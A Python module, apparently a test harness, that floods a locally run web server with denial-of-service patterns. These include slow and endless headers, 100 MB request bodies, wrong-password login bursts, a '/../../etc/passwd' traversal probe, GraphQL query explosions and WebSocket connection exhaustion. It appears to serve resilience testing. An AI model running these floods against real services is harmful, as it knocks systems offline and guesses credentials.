"""Floods of a web process, each in threads of one process: by strangers, and by a viewer who means harm.

Each thread has an address of its own out of 127.0.0.0/8, as an attacker has several machines; the friendly client
has another one. A flood goes on until its time is over, whatever the server answers.
"""

from __future__ import annotations

import contextlib
import http.client
import itertools
import json
import os
import socket
import threading
import time
from collections.abc import Callable
from dataclasses import dataclass

from websockets import Subprotocol
from websockets.exceptions import WebSocketException
from websockets.sync.client import ClientConnection, connect

_PIECE = 65_536
#: Seconds that a send or an answer may take.
_PATIENCE = 5.0
_SUBSCRIPTION = """subscription ($key: [String!]!) { capturedLogs(logKey: $key) { stdout } }"""


@dataclass(frozen=True)
class Target:
    """What is attacked: the port of the process on this machine, a viewer's token, and when to end."""

    port: int
    token: str
    until: float

    @property
    def is_over(self) -> bool:
        return time.monotonic() > self.until

    def connected(self, number: int) -> socket.socket:
        """A new connection from the address of a number."""
        return socket.create_connection(("127.0.0.1", self.port), _PATIENCE, (address(number), 0))

    @property
    def authorization(self) -> dict[str, str]:
        return {"Authorization": f"Bearer {self.token}"}


def address(number: int) -> str:
    """One of 50,000 addresses of this machine."""
    return f"127.{1 + number // 62_500 % 200}.{number // 250 % 250}.{1 + number % 250}"


def headers(target: Target, number: int) -> None:
    """Header lines without an end, one header of 60 MB, and a header of one byte each half second."""
    endless = b"X-Flood: " + b"a" * 1_000 + b"\r\n"
    with target.connected(number) as connection:
        connection.sendall(b"GET / HTTP/1.1\r\nHost: localhost\r\n")
        if number % 3 == 2:
            while not target.is_over:
                connection.sendall(b"a")
                time.sleep(0.5)
        piece = endless * 60 if number % 3 else b"a" * _PIECE
        for _ in range(60_000_000 // len(piece)):
            connection.sendall(piece)


def bodies(target: Target, number: int) -> None:
    """Bodies of 100 MB with their length or in chunks, by a stranger and by a viewer."""
    path = "/graphql" if number % 2 else "/api/auth/login"
    length = "Content-Length: 100000000" if number % 4 < 2 else "Transfer-Encoding: chunked"
    head = f"POST {path} HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n{length}\r\n"
    if number % 2:
        head += f"Authorization: Bearer {target.token}\r\n"
    piece = b" " * _PIECE if number % 4 < 2 else b"10000\r\n" + b" " * _PIECE + b"\r\n"
    with target.connected(number) as connection:
        connection.sendall(head.encode() + b"\r\n")
        for _ in range(100_000_000 // _PIECE):
            connection.sendall(piece)


_attempts = itertools.count(1)


def logins(target: Target, number: int) -> None:
    """Sign-ins with wrong passwords, each from an address of its own, half of them as the friendly user."""
    attempt = next(_attempts)
    name = "friend" if attempt % 2 else f"nobody{attempt}"
    body = json.dumps({"username": name, "password": f"guess {attempt}"})
    _ask(target, 10_000 + attempt * 8 + number % 8, "POST", "/api/auth/login", body)


def strangers(target: Target, number: int) -> None:
    """Requests for whatever there is, without a sign-in."""
    paths = ("/", "/graphql", "/api/v1/market/summary", "/metrics", "/../../etc/passwd", f"/{os.urandom(8).hex()}")
    for path in paths:
        _ask(target, number, "GET", path)


def graphql(target: Target, number: int) -> None:
    """A viewer's operations: cheap ones, refused mutations by the hundred, deep, long and multiplied ones."""
    delete = 'deleteRun(runId: "x") { __typename }'
    fragments = "".join(
        f"fragment f{n} on Query {{ a: x {{ ...f{n + 1} }} b: x {{ ...f{n + 1} }} }} " for n in range(14)
    )
    for query in (
        "{ version }",
        "mutation {" + " ".join(f"a{n}: {delete}" for n in range(150)) + "}",
        "{" + "a {" * 900 + "b" + "}" * 900 + "}",
        "{" + "version " * 8_000 + "}",
        "{ ...f0 } " + fragments + "fragment f14 on Query { version }",
        "{ runsOrError { ... on Runs { results { runId eventConnection { events { __typename } } } } } }",
    ):
        _ask(target, number, "POST", "/graphql", json.dumps({"query": query}), **target.authorization)
    _ask(target, number, "GET", "/download_debug/x", **target.authorization)
    _ask(target, number, "GET", "/logs/a/b/c/stdout", **target.authorization)


def sockets(target: Target, number: int) -> None:
    """A viewer's WebSockets: subscriptions to logs that are not there, and messages of a megabyte."""
    with contextlib.ExitStack() as stack:
        opened = [stack.enter_context(_websocket(target, number)) for _ in range(20)]
        for position, connection in enumerate(opened * 10):
            variables = {"key": [f"made-up-{number}-{position}", "compute_logs", "x"]}
            payload = {"query": _SUBSCRIPTION, "variables": variables}
            connection.send(json.dumps({"type": "start", "id": str(position), "payload": payload}))
        for connection in opened:
            with contextlib.suppress(WebSocketException):
                connection.send("a" * 1_000_000)


def idle(target: Target, number: int) -> None:
    """As many connections as one address may have, and more, without a byte; opened again when they are closed."""
    with contextlib.ExitStack() as stack:
        for _ in range(150):
            stack.enter_context(target.connected(20 + number % 2))
        while not target.is_over:
            time.sleep(0.2)


FLOODS: dict[str, Callable[[Target, int], None]] = {
    flood.__name__: flood for flood in (headers, bodies, logins, strangers, graphql, sockets, idle)
}
#: Threads of a flood.
_THREADS = {"logins": 64, "idle": 2, "sockets": 4}
_USUAL_THREADS = 12


def run_flood(name: str, port: int, token: str, seconds: float) -> None:
    """Flood a process for some seconds, and give way to everything else that this machine does."""
    os.nice(19)
    flood, target = FLOODS[name], Target(port, token, time.monotonic() + seconds)

    def repeat(number: int) -> None:
        while not target.is_over:
            with contextlib.suppress(OSError, WebSocketException, http.client.HTTPException):
                flood(target, number)

    numbers = range(30, 30 + _THREADS.get(name, _USUAL_THREADS))
    threads = [threading.Thread(target=repeat, args=(number,)) for number in numbers]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


def _ask(target: Target, number: int, method: str, path: str, body: str | None = None, **more: str) -> None:
    connection = http.client.HTTPConnection("127.0.0.1", target.port, 60, (address(number), 0))
    with contextlib.closing(connection):
        connection.request(method, path, body, {"Content-Type": "application/json", **more})
        connection.getresponse().read()


def _websocket(target: Target, number: int) -> ClientConnection:
    return connect(
        f"ws://127.0.0.1:{target.port}/graphql",
        sock=target.connected(number),
        subprotocols=[Subprotocol("graphql-ws")],
        additional_headers=target.authorization,
        open_timeout=_PATIENCE,
        close_timeout=1,
    )
